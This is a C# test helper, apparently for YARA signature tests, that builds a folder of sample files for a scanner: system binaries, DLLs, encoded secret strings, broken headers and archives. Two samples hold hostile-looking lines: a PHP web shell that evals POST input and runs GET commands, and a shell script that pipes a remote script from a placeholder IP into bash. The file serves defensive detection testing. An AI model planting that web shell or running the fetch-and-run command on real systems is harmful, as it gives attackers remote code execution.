using System.IO.Compression;
using System.Text;

namespace Vmsweep.Signatures.Tests.Yara;

/// <summary>A folder of varied files: ELF and PE programs of this machine, texts, scripts, archives, odd sizes, strings in every coding.</summary>
internal static class SampleFiles
{
    public static List<string> Make(string folder)
    {
        Directory.CreateDirectory(folder);
        foreach (string elf in new[] { "ls", "cat", "bash", "env", "gzip" })
        {
            File.Copy($"/usr/bin/{elf}", Path.Combine(folder, elf + ".elf"));
        }

        foreach (string pe in Directory.EnumerateFiles(AppContext.BaseDirectory, "*.dll").Order(StringComparer.Ordinal).Where(f => new FileInfo(f).Length < 400_000).Take(12))
        {
            File.Copy(pe, Path.Combine(folder, Path.GetFileName(pe)));
        }

        void Put(string name, params byte[][] parts) => File.WriteAllBytes(Path.Combine(folder, name), [.. parts.SelectMany(p => p)]);
        byte[] secret = "This is the secret passphrase of nobody"u8.ToArray();
        byte[] filler = Enumerable.Range(0, 5000).Select(i => (byte)((i * 7) + (i >> 5))).ToArray();
        Put("plain.txt", filler, secret, filler, secret, "\nSECRET PASSPHRASE secret passphrase\n"u8.ToArray());
        Put("wide.txt", [0], Encoding.Unicode.GetBytes("This is the secret passphrase of nobody"), filler);
        Put("xored.bin", filler, [.. secret.Select(b => (byte)(b ^ 0x5C))]);
        Put("base64.txt", Encoding.ASCII.GetBytes("x = '" + Convert.ToBase64String([1, .. secret]) + "'"));
        Put("shell.php", "<?php @eval($_POST['cmd']); system($_GET[\"c\"]); echo base64_decode('aGVsbG8='); ?>\n"u8.ToArray());
        Put("script.sh", "#!/bin/sh\ncurl -s http://192.0.2.7/a.sh | bash\nfor i in 1 2 3; do echo \"$i\"; done\n"u8.ToArray());
        Put("jumps.bin", filler, [0xDE, 0xAD, 0x11, 0x22, 0x33, 0xBE, 0xEF, 0xCA, 0xFE, 0x01, 0xBA, 0xBE], new byte[300], [0xF0, 0x0D, 0xF0, 0x0D]);
        Put("mz-only", "MZ"u8.ToArray());
        Put("mz-broken.exe", "MZ"u8.ToArray(), filler);
        Put("elf-broken", "\u007FELF"u8.ToArray(), filler);
        Put("empty");
        Put("one", "x"u8.ToArray());
        Put("zeros", new byte[70_000]);
        Put("aaaa", [.. Enumerable.Repeat((byte)'a', 3000)]);
        using (FileStream file = File.Create(Path.Combine(folder, "texts.gz")))
        using (var gzip = new GZipStream(file, CompressionLevel.Optimal))
        {
            gzip.Write(filler);
            gzip.Write(secret);
        }

        ZipFile.CreateFromDirectory(AppContext.BaseDirectory, Path.Combine(folder, "all.zip"), CompressionLevel.NoCompression, includeBaseDirectory: false);
        return [.. Directory.EnumerateFiles(folder).Order(StringComparer.Ordinal)];
    }
}
